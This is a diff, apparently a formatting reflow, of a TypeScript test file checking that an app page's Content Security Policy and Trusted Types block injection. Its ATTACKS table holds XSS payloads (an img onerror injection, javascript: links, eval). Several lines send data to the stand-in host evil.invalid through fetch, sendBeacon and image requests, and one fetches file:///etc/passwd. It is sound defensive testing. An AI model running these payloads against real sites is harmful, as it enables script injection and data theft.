@@ -21,37 +21,52 @@ const POLICY = [
 
 /** Each tries to set `window.hit` or to reach a server; each must end in a violation report or an error. */
 const ATTACKS: Readonly<Record<string, string>> = {
-  'inline script element': "const s = document.createElement('script'); s.append('window.hit = 1'); document.body.append(s)",
+  'inline script element':
+    "const s = document.createElement('script'); s.append('window.hit = 1'); document.body.append(s)",
   'text of a script element': "document.createElement('script').text = 'window.hit = 1'",
-  'script from elsewhere': "const s = document.createElement('script'); s.src = 'https://evil.invalid/a.js'; document.body.append(s)",
-  'script from a data address': "import('data:text/javascript,window.hit=1').catch((e) => { window.caught = String(e) })",
+  'script from elsewhere':
+    "const s = document.createElement('script'); s.src = 'https://evil.invalid/a.js'; document.body.append(s)",
+  'script from a data address':
+    "import('data:text/javascript,window.hit=1').catch((e) => { window.caught = String(e) })",
   eval: "window.hit = eval('1')",
   'function from text': "window.hit = new Function('return 1')()",
   'timer from text': "setTimeout('window.hit = 1', 0)",
-  'innerHTML with markup': "document.body.lastElementChild.innerHTML = '<img src=x onerror=\"window.hit = 1\">'",
+  'innerHTML with markup': 'document.body.lastElementChild.innerHTML = \'<img src=x onerror="window.hit = 1">\'',
   'outerHTML with markup': "document.body.lastElementChild.outerHTML = '<b>x</b>'",
   insertAdjacentHTML: "document.body.insertAdjacentHTML('beforeend', '<i>x</i>')",
   'document.write': "document.write('<script>window.hit = 1</script>')",
   'parsed document': "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
   'a second policy': "trustedTypes.createPolicy('mine', { createHTML: (s) => s })",
-  'event attribute': "const b = document.createElement('b'); b.setAttribute('onclick', 'window.hit = 1'); document.body.append(b); b.click(); b.remove()",
-  'javascript: link': "const a = document.createElement('a'); a.href = 'javascript:window.hit = 1'; document.body.append(a); a.click(); a.remove()",
-  'style without nonce': "const s = document.createElement('style'); s.textContent = 'body { outline: 7px solid red }'; document.head.append(s); if (getComputedStyle(document.body).outlineWidth === '7px') window.hit = 1",
-  'style from elsewhere': "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.invalid/a.css'; document.head.append(l)",
+  'event attribute':
+    "const b = document.createElement('b'); b.setAttribute('onclick', 'window.hit = 1'); document.body.append(b); b.click(); b.remove()",
+  'javascript: link':
+    "const a = document.createElement('a'); a.href = 'javascript:window.hit = 1'; document.body.append(a); a.click(); a.remove()",
+  'style without nonce':
+    "const s = document.createElement('style'); s.textContent = 'body { outline: 7px solid red }'; document.head.append(s); if (getComputedStyle(document.body).outlineWidth === '7px') window.hit = 1",
+  'style from elsewhere':
+    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.invalid/a.css'; document.head.append(l)",
   'picture from elsewhere': "new Image().src = 'https://evil.invalid/a.png?secret'",
-  'fetch over https': "fetch('https://evil.invalid/').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
-  'fetch over http': "fetch('http://127.0.0.1:1/').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
+  'fetch over https':
+    "fetch('https://evil.invalid/').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
+  'fetch over http':
+    "fetch('http://127.0.0.1:1/').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
   'fetch of a file': "fetch('file:///etc/passwd').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
-  'fetch of another host of ours': "fetch('app://other/index.html').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
-  'socket': "new WebSocket('wss://evil.invalid/').onopen = () => { window.hit = 1 }",
-  'beacon': "navigator.sendBeacon('https://evil.invalid/', 'secret')",
+  'fetch of another host of ours':
+    "fetch('app://other/index.html').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
+  socket: "new WebSocket('wss://evil.invalid/').onopen = () => { window.hit = 1 }",
+  beacon: "navigator.sendBeacon('https://evil.invalid/', 'secret')",
   'event stream': "new EventSource('https://evil.invalid/').onopen = () => { window.hit = 1 }",
   'worker from a blob': "new Worker(URL.createObjectURL(new Blob(['1'])))",
-  'frame of a page': "const f = document.createElement('iframe'); f.src = 'https://evil.invalid/'; document.body.append(f)",
-  'frame with markup': "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hit = 1</script>'; document.body.append(f)",
-  'object element': "const o = document.createElement('object'); o.data = 'https://evil.invalid/a.swf'; document.body.append(o)",
-  'base element': "const b = document.createElement('base'); b.href = 'https://evil.invalid/'; document.head.append(b); if (document.baseURI.includes('evil')) window.hit = 1",
-  'form to elsewhere': "const f = document.createElement('form'); f.action = 'https://evil.invalid/'; document.body.append(f); f.submit()",
+  'frame of a page':
+    "const f = document.createElement('iframe'); f.src = 'https://evil.invalid/'; document.body.append(f)",
+  'frame with markup':
+    "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hit = 1</script>'; document.body.append(f)",
+  'object element':
+    "const o = document.createElement('object'); o.data = 'https://evil.invalid/a.swf'; document.body.append(o)",
+  'base element':
+    "const b = document.createElement('base'); b.href = 'https://evil.invalid/'; document.head.append(b); if (document.baseURI.includes('evil')) window.hit = 1",
+  'form to elsewhere':
+    "const f = document.createElement('form'); f.action = 'https://evil.invalid/'; document.body.append(f); f.submit()",
 };
 
 /** Runs a script as the page itself would: what a test tool evaluates directly is exempt from the policy. */
@@ -77,7 +92,18 @@ describe('the page', () => {
   const running = useConsole({ args: ['--no-demo'] });
 
   it('has no Node and no Electron', async () => {
-    const names = ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'setImmediate', 'ipcRenderer', 'electron'];
+    const names = [
+      'require',
+      'process',
+      'module',
+      'exports',
+      'Buffer',
+      'global',
+      '__dirname',
+      'setImmediate',
+      'ipcRenderer',
+      'electron',
+    ];
     const types = await running().page.evaluate(
       (all) => all.map((name) => typeof (globalThis as Record<string, unknown>)[name]),
       names,
@@ -106,7 +132,12 @@ describe('the page', () => {
         isSame: after === bridge,
       };
     });
-    expect(found).toEqual({ keys: ['request', 'subscribe'], types: ['function', 'function'], isFrozen: true, isSame: true });
+    expect(found).toEqual({
+      keys: ['request', 'subscribe'],
+      types: ['function', 'function'],
+      isFrozen: true,
+      isSame: true,
+    });
   });
 
   it('is served with exactly this policy, and with a fresh nonce each time', async () => {
@@ -124,7 +155,10 @@ describe('the page', () => {
 
   it('was drawn without a violation, and lets plain text pass', async () => {
     expect(running().mistakes).toEqual([]);
-    const answer = await runInPage(running().page, "const d = document.createElement('div'); d.innerHTML = 'plain'; window.hit = d.textContent");
+    const answer = await runInPage(
+      running().page,
+      "const d = document.createElement('div'); d.innerHTML = 'plain'; window.hit = d.textContent",
+    );
     expect(answer).toEqual({ hit: 'plain', caught: undefined });
   });
 
